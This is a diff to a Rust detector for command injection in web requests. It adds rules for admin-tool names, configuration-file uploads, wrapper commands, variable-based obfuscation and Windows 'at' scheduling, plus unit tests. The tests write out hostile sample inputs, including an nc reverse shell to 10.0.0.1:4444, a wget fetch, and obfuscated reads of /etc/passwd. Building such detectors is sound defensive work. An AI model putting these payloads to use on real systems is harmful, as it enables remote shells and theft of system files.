@@ -18,8 +18,10 @@
 mod edge;
 mod lexicon;
 mod mail;
+mod upload;
 
 use crate::detector::{Detector, Features, Input, Sink};
+use crate::location::Part;
 use crate::rule::{Class, Rule, Severity};
 use lexicon::{Command, Kind};
 use memchr::memmem::Finder;
@@ -147,6 +149,36 @@ static EXPANSION: Rule = Rule {
     description: "shell history, tilde, arithmetic, parameter or brace expansion syntax",
 };
 
+/// A value that is only the name of an administration tool no text or data names
+/// (`visudo`, `ansible-console`, `chef-shell`).
+static ALONE: Rule = Rule {
+    id: "command.alone",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "value is the bare name of a system administration tool",
+};
+
+/// An upload named as a server, shell or tool configuration file or a `/proc` file
+/// (`.htaccess`, `.user.ini`, `wp-config.php.bak`, `.bashrc`, `mtrr`).
+static CONFIG_UPLOAD: Rule = Rule {
+    id: "command.config-upload",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "upload of a server, shell or tool configuration file or a /proc file",
+};
+
+/// An upload named as an application's configuration file (`config.yml`, `settings.php`):
+/// a legitimate upload more often.
+static APP_CONFIG_UPLOAD: Rule = Rule {
+    id: "command.app-config-upload",
+    class: Class::Command,
+    paranoia: 2,
+    severity: Severity::Critical,
+    description: "upload of an application configuration file",
+};
+
 /// The command detector.
 pub(crate) static DETECTOR: Detector = Detector {
     class: Class::Command,
@@ -163,6 +195,9 @@ pub(crate) static DETECTOR: Detector = Detector {
         &START_WEAK,
         &MAIL_PROTOCOL,
         &EXPANSION,
+        &ALONE,
+        &CONFIG_UPLOAD,
+        &APP_CONFIG_UPLOAD,
     ],
     scan,
 };
@@ -230,6 +265,8 @@ struct Word {
     has_dir: bool,
     /// The directory was a `bin` directory.
     bin_dir: bool,
+    /// The directory was a system one: `bin/`, `/bin/`, `/usr/bin/`, `/usr/local/sbin/`…
+    sys_bin: bool,
     /// `$SHELL`/`${SHELL}`.
     shell_var: bool,
 }
@@ -333,7 +370,11 @@ fn read_word(s: &[u8], mut i: usize) -> Option<Word> {
                 i += 3;
             }
             b'$' => match s.get(i + 1) {
-                Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') => {
+                // `c$_at`: a shell reads the variable `_at`, but the attacker means `$_`,
+                // empty in a fresh shell, inside the name.
+                Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') | Some(b'_')
+                    if len > 0 || s.get(i + 1) != Some(&b'_') =>
+                {
                     pending_other = true;
                     i += 2;
                 }
@@ -456,12 +497,15 @@ fn finish_word(
         glob,
         has_dir: false,
         bin_dir: false,
+        sys_bin: false,
         shell_var,
     };
     let base = match full.iter().rposition(|&c| c == b'/') {
         Some(slash) => {
             word.has_dir = true;
-            word.bin_dir = full[..=slash].ends_with(b"bin/");
+            let dir = &full[..=slash];
+            word.bin_dir = dir.ends_with(b"bin/");
+            word.sys_bin = word.bin_dir && system_bin(dir);
             &full[slash + 1..]
         }
         None => full,
@@ -472,6 +516,15 @@ fn finish_word(
     word.name[..base.len()].copy_from_slice(base);
     word.len = base.len();
     Some(word)
+}
+
+/// `dir` (ending in `bin/`) is `bin/`, `sbin/`, or one under `/`, `/usr/` or
+/// `/usr/local/` — not `cabin/` or `node_modules/.bin/`.
+fn system_bin(dir: &[u8]) -> bool {
+    let dir = dir.strip_prefix(b"/").unwrap_or(dir);
+    let dir = dir.strip_prefix(b"usr/").unwrap_or(dir);
+    let dir = dir.strip_prefix(b"local/").unwrap_or(dir);
+    matches!(dir, b"bin/" | b"sbin/")
 }
 
 /// The command a word names, trying the forms attackers use: `cmd.exe`, `python3.10`,
@@ -753,10 +806,13 @@ fn judge(
                     Some(&START)
                 }
                 Evidence::Word
-                    if attack && tool_name(word.name()) && cli_args(s, word.span.end) =>
+                    if attack
+                        && (cmd.jargon || tool_name(word.name()))
+                        && cli_args(s, word.span.end) =>
                 {
                     Some(&START)
                 }
+                Evidence::End if cmd.jargon && !word.has_dir => Some(&ALONE),
                 Evidence::SystemPath
                 | Evidence::Url
                 | Evidence::Substitution
@@ -810,7 +866,7 @@ fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
             sink.report(&SUBSTITUTION_WEAK, i..i + 1);
         }
         if s.get(i) == Some(&b'$') && context != Context::Wrapped {
-            empty_variable_prefix(s, i, sink);
+            empty_variable_prefix(s, i, context, sink);
         }
         return;
     };
@@ -829,15 +885,76 @@ fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
         let end = s.len().min(word.span.end + 24);
         sink.report(rule, word.span.start..end);
     }
-    let next = skip_blanks(s, word.span.end);
     if cmd.wrapper
         && context != Context::Wrapped
-        && next > word.span.end
-        && s.get(next)
-            .is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'/'))
+        && let Some(next) = wrapped(s, word.span.end)
     {
         command_at(s, next, Context::Wrapped, sink);
     }
+    if matches!(context, Context::Separator { .. })
+        && word.name() == b"at"
+        && let Some(end) = scheduled(s, word.span.end)
+    {
+        sink.report(&WINDOWS, word.span.start..end);
+    }
+}
+
+/// Windows `at 2:00 "echo test"`: a time, then a quoted command, after a separator. The
+/// end of the command's name when it is one.
+fn scheduled(s: &[u8], end: usize) -> Option<usize> {
+    let at = skip_blanks(s, end);
+    let hours = s[at..]
+        .iter()
+        .take(3)
+        .take_while(|c| c.is_ascii_digit())
+        .count();
+    let rest = &s[at + hours..];
+    if !(1..=2).contains(&hours)
+        || rest.len() < 3
+        || rest[0] != b':'
+        || !rest[1].is_ascii_digit()
+        || !rest[2].is_ascii_digit()
+    {
+        return None;
+    }
+    let quote = skip_blanks(s, at + hours + 3);
+    if !matches!(s.get(quote), Some(b'"' | b'\'')) {
+        return None;
+    }
+    let word = read_word(s, quote + 1)?;
+    command_of(&word).map(|_| word.span.end)
+}
+
+/// Where the command a wrapper runs starts, the wrapper ending at `end`: the next word,
+/// past the wrapper's flags, their arguments and numbers (`flock -u / whoami`,
+/// `sudo -u root id`, `timeout 5 curl …`).
+fn wrapped(s: &[u8], mut end: usize) -> Option<usize> {
+    let mut i = skip_blanks(s, end);
+    let mut after_flag = false;
+    for _ in 0..6 {
+        if i == end {
+            return None;
+        }
+        let c = *s.get(i)?;
+        let skip = if c == b'-' {
+            after_flag = true;
+            true
+        } else if after_flag || c.is_ascii_digit() {
+            after_flag = false;
+            read_word(s, i).and_then(|w| command_of(&w)).is_none()
+        } else {
+            false
+        };
+        if !skip {
+            return (c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'/')).then_some(i);
+        }
+        let token = s[i..]
+            .iter()
+            .position(|&c| matches!(c, b' ' | b'\t' | b'+' | b';' | b'|' | b'&' | b'\n'))
+            .map_or(s.len(), |p| i + p);
+        (end, i) = (token, skip_blanks(s, token));
+    }
+    None
 }
 
 /// A word that names no command: a `$(…)` still is shell syntax; `/usr/bin/x` still is a
@@ -845,6 +962,8 @@ fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
 fn not_a_command(word: &Word, context: Context, sink: &mut Sink<'_>) {
     if context == Context::Dollar {
         sink.report(&SUBSTITUTION_WEAK, word.span.clone());
+    } else if context == Context::Start && word.sys_bin && !word.glob {
+        sink.report(&START, word.span.clone());
     } else if context == Context::Start && word.bin_dir {
         sink.report(&START_WEAK, word.span.clone());
     }
@@ -862,8 +981,14 @@ fn glued_switch(s: &[u8], word: &Word) -> Option<Command> {
     (cmd.kind == Kind::Attack && text.len() == slash + 2).then_some(cmd)
 }
 
-/// `$a cat file`: an unset variable before the command expands to nothing.
-fn empty_variable_prefix(s: &[u8], i: usize, sink: &mut Sink<'_>) {
+/// `$a cat file`: an unset variable before the command expands to nothing. An attacker's
+/// command counts, or one with command-line arguments; after a separator or inside a
+/// substitution, one with a file name too (`;$a cat test.txt`).
+fn empty_variable_prefix(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
+    let shell = matches!(
+        context,
+        Context::Separator { .. } | Context::Backtick | Context::Dollar
+    );
     let mut j = i + 1;
     while j < s.len() && j < i + 32 && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
         j += 1;
@@ -874,10 +999,30 @@ fn empty_variable_prefix(s: &[u8], i: usize, sink: &mut Sink<'_>) {
     }
     if let Some(word) = read_word(s, next)
         && let Some(cmd) = command_of(&word)
-        && (cmd.kind == Kind::Attack || evidence(s, word.span.end, cmd) != Evidence::Word)
+        && (cmd.kind == Kind::Attack
+            || match evidence(s, word.span.end, cmd) {
+                Evidence::Word => shell && file_name_follows(s, word.span.end),
+                _ => true,
+            })
     {
         sink.report(&EVASION, i..word.span.end);
     }
+}
+
+/// The next argument after `end` is a file name: `test.txt`, not `lovers`.
+fn file_name_follows(s: &[u8], end: usize) -> bool {
+    let at = skip_blanks(s, end);
+    let token = s[at..]
+        .iter()
+        .take_while(|&&c| is_word_byte(c) && c != b'+')
+        .count();
+    let token = &s[at..at + token];
+    token.iter().rposition(|&c| c == b'.').is_some_and(|dot| {
+        dot > 0
+            && token[dot + 1..]
+                .first()
+                .is_some_and(u8::is_ascii_alphanumeric)
+    })
 }
 
 /// `name=value` at the start of a value or after `&`/`?` (a form or query string inside a
@@ -945,10 +1090,23 @@ const PLAIN: Features = Features::LETTER
 
 fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
     let s = input.lower;
+    if upload::is_upload_name(input)
+        && let Some((kind, span)) = upload::find(s)
+    {
+        let rule = match kind {
+            upload::Upload::Restricted => &CONFIG_UPLOAD,
+            upload::Upload::AppConfig => &APP_CONFIG_UPLOAD,
+        };
+        sink.report(rule, span);
+    }
     // `+` is a blank in a query string: a value with one is not one word.
     if input.features.union(PLAIN) == PLAIN
         && !(input.features.any(Features::DASH) && s.contains(&b'+'))
     {
+        // A path segment may name a tool's page (`/docs/ansible-console`).
+        if input.part != Part::Path && lexicon::lookup(s).is_some_and(|c| c.jargon) {
+            sink.report(&ALONE, 0..s.len());
+        }
         if let Some(span) = windows(s, input.features) {
             sink.report(&WINDOWS, span);
         }
@@ -994,7 +1152,8 @@ fn scan_all(input: &Input<'_>, sink: &mut Sink<'_>) {
                     {
                         assignment(s, st..i, sink);
                     }
-                    ident_start = None;
+                    // `cmd=garb=adduse[r];$garb`: the value may itself be an assignment.
+                    ident_start = Some(i + 1);
                 }
                 b'?' => ident_start = Some(i + 1),
                 _ if !is_ident_byte(b) => ident_start = None,
@@ -1171,6 +1330,47 @@ fn invoked_after(s: &[u8], at: usize, name: &[u8]) -> bool {
             .is_none_or(|&c| matches!(c, b' ' | b'\t' | b';' | b'&' | b'|' | b'\n'))
 }
 
+/// Whether `name=` opens the value or follows a separator or a blank: an assignment.
+fn assigned(s: &[u8], name: &[u8]) -> bool {
+    memchr::memchr_iter(b'=', s).any(|q| {
+        q >= name.len()
+            && s[..q].ends_with(name)
+            && (q == name.len()
+                || matches!(
+                    s[q - name.len() - 1],
+                    b';' | b'&' | b'|' | b'\n' | b' ' | b'\t'
+                ))
+    })
+}
+
+/// `c1=c;c2=a;c3=t;$c1$c2$c3 /etc/passwd`: a command spelled out in variables assigned in
+/// the value, expanded three or more glued together.
+fn glued_variables(s: &[u8]) -> Option<Range<usize>> {
+    let (mut run_start, mut run_end, mut count) = (0, usize::MAX, 0);
+    for p in memchr::memchr_iter(b'$', s) {
+        let name = &s[p + 1..];
+        let len = name
+            .iter()
+            .take(16)
+            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+            .count();
+        if len == 0 || name[0].is_ascii_digit() || !assigned(s, &name[..len]) {
+            count = 0;
+            continue;
+        }
+        if p == run_end && count > 0 {
+            count += 1;
+        } else {
+            (run_start, count) = (p, 1);
+        }
+        run_end = p + 1 + len;
+        if count >= 3 {
+            return Some(run_start..run_end);
+        }
+    }
+    None
+}
+
 /// Fixed shapes, each searched only when the value holds the bytes it needs.
 fn shapes(s: &[u8], features: Features, sink: &mut Sink<'_>) {
     // `${ifs`, `$ifs`, `/dev/tcp/`, `/dev/udp/`.
@@ -1193,6 +1393,12 @@ fn shapes(s: &[u8], features: Features, sink: &mut Sink<'_>) {
             (rest.starts_with(b"/dev/tcp/") || rest.starts_with(b"/dev/udp/")).then_some(p..p + 9)
         });
         shell = first_ending(shell, dev);
+    }
+    if features.any(Features::DOLLAR)
+        && features.any(Features::SEPARATOR)
+        && features.any(Features::EQUALS)
+    {
+        shell = first_ending(shell, glued_variables(s));
     }
     if let Some(span) = shell {
         sink.report(&SHELL_SYNTAX, span);
@@ -1431,6 +1637,159 @@ mod tests {
         // The method's name alone is not a call.
         assert!(hits("downloadstring").is_empty());
         assert_eq!(hits("-EncodedCommand"), ["command.windows"]);
+    }
+
+    #[test]
+    fn admin_tools_alone_or_with_plain_arguments() {
+        for attack in [
+            "visudo",
+            "ansible-console",
+            "chef-shell",
+            "'visudo'",
+            "\"chef-shell\"",
+            "code=ansible-console",
+        ] {
+            assert_eq!(hits(attack), ["command.alone"], "{attack}");
+        }
+        for attack in [
+            "cscli alerts list",
+            "'cscli' alerts list",
+            "\"cscli alerts list\"",
+            "pipx install something",
+        ] {
+            assert!(hits(attack).contains(&"command.start"), "{attack}");
+        }
+        // Not as a path segment (a tool's documentation page), not under a directory, not
+        // the names of languages, products or actions.
+        assert!(matches(&DETECTOR, Part::Path, "", "ansible-console", 1).is_empty());
+        for benign in [
+            "/docs/ansible-console",
+            "ansible",
+            "python3",
+            "whoami",
+            "shutdown",
+            "chef",
+            "cscli alerts list for the new team, see the notes below",
+            "visudo.html",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn system_bin_directories() {
+        for attack in ["/bin/ab", "bin/chef", "/usr/local/sbin/foo"] {
+            assert_eq!(hits(attack), ["command.start"], "{attack}");
+        }
+        // Other directories ending in `bin` hold no programs for certain.
+        assert!(hits("cabin/chalet").is_empty());
+        assert!(hits("node_modules/.bin/eslint").is_empty());
+        assert_eq!(hits2("node_modules/.bin/eslint"), ["command.start-weak"]);
+    }
+
+    #[test]
+    fn wrappers_with_flags() {
+        for attack in [
+            "flock -u / whoami",
+            "sudo -u root whoami",
+            "timeout 5 wget http://x.example/a",
+            "stdbuf -o0 nc -e /bin/sh 10.0.0.1 4444",
+        ] {
+            assert!(hits(attack).contains(&"command.separator"), "{attack}");
+        }
+        for benign in [
+            "time to sort",
+            "time - the movie, 2 tickets",
+            "nice -- a word",
+            "timeout 5 seconds",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn underscore_parameter_inside_a_name() {
+        for attack in [
+            "www.google.com;c$_at+/et$_c/pas$_swd",
+            "x=foo;c$_at /etc/passwd",
+        ] {
+            assert!(hits(attack).contains(&"command.evasion"), "{attack}");
+        }
+        for benign in ["read $_GET['x'] in PHP", "price$_total", "a$_b"] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn config_uploads() {
+        let upload = |part, name, value, paranoia| matches(&DETECTOR, part, name, value, paranoia);
+        assert_eq!(
+            upload(Part::FileName, "", ".htaccess", 1),
+            ["command.config-upload"]
+        );
+        assert_eq!(
+            upload(Part::Header, "x-filename", "mtrr", 1),
+            ["command.config-upload"]
+        );
+        assert!(upload(Part::Header, "x-filename", "config.yml ", 1).is_empty());
+        assert_eq!(
+            upload(Part::FileName, "", "config.yml", 2),
+            ["command.app-config-upload"]
+        );
+        // Only as the name of an upload.
+        assert!(upload(Part::Query, "file", ".htaccess", 4).is_empty());
+        assert!(upload(Part::Header, "x-other", "mtrr", 4).is_empty());
+        assert!(upload(Part::FileName, "", "settings.json", 4).is_empty());
+    }
+
+    #[test]
+    fn empty_variable_before_a_command() {
+        assert!(hits(";$a cat test.txt").contains(&"command.evasion"));
+        assert!(hits("$a whoami").contains(&"command.evasion"));
+        assert!(hits("x|$u sort data.csv").contains(&"command.evasion"));
+        for benign in [
+            "$a cat lovers",
+            "price: $a cat food",
+            "x; $total sort order",
+            "$a cat file.txt",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn variables_glued_into_a_command() {
+        let chain = "c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;$c1$c2$c3$c4$a1$a2$a3$a4";
+        assert!(hits(chain).contains(&"command.shell-syntax"), "{chain}");
+        for benign in [
+            "a=1; b=2; total is $a$b",
+            "$x$y$z; w=1",
+            "x=1;y=2;z=3; see $x, $y and $z",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn windows_at_schedule() {
+        for attack in [";at 2:00 \"echo test\"", "x & at 13:45 'whoami'"] {
+            assert!(hits(attack).contains(&"command.windows"), "{attack}");
+        }
+        for benign in [
+            "at 2:00 \"echo test\"",
+            "lunch; at 7:30 \"Hamlet\" at the Globe",
+            "Go to store.\nAt 2:00 \"echo\" the band plays",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn nested_assignment() {
+        assert!(hits("cmd=garb=adduse[r];$garb pizza\n").contains(&"command.shell-syntax"));
+        for benign in ["a=b=c", "token=YWJj==", "x=y=z;w"] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
     }
 
     #[test]
